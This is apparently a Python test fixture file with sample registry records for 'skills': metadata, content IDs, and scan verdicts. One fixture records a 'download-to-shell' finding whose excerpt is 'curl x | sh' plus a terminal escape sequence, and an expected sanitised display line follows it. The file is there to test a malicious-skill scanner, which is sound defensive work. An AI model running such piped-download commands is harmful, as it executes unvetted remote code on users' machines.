"""Records of skills as a server sends them."""

from typing import Any

CID = "bafybeic5bp6hbf3ct7dhc2s7luma645fpmvqumxxjikhl7yt463sa77vwi"
CID_OF_UPDATE = "bafybeib4vvafywbvzc3s44pw67ndgo6wsggnyozeedwggnhu7mj4yjbz7q"
AT = "2026-01-02T03:04:05.000006Z"
CLEAN: dict[str, Any] = {"level": "clean", "rulesVersion": "1", "findings": []}
FINDING = {
    "rule": "download-to-shell",
    "level": "dangerous",
    "path": "run.sh",
    "line": 3,
    "excerpt": "curl x | sh\x1b[2J",
}
DANGEROUS: dict[str, Any] = {"level": "dangerous", "rulesVersion": "1", "findings": [FINDING]}
SHOWN_FINDING = "run.sh:3: dangerous (download-to-shell): curl x | sh"
SKILL: dict[str, Any] = {
    "skillId": "s1",
    "skillCid": CID,
    "name": "notes",
    "slug": "@ada/notes",
    "description": "Takes notes",
    "version": "1.0.0",
    "createdAt": AT,
    "userId": "t",
    "envVars": [{"name": "A_KEY", "description": "of a", "required": True}],
    "fileId": None,
    "files": 2,
    "size": 200,
    "wants": {"programs": ["git"], "hosts": ["a.example"]},
    "warnings": ["unknown key 'extra'"],
    "verdict": CLEAN,
}
UPDATE = {**SKILL, "skillCid": CID_OF_UPDATE, "version": "1.1.0"}
EVIL = {**SKILL, "skillId": "s2", "name": "evil", "slug": None, "verdict": DANGEROUS}
CHECK = [
    "Warning: unknown key 'extra'",
    "Wants the secret A_KEY: of a",
    "Wants the program git",
    "Wants to reach a.example",
    "notes: clean",
]
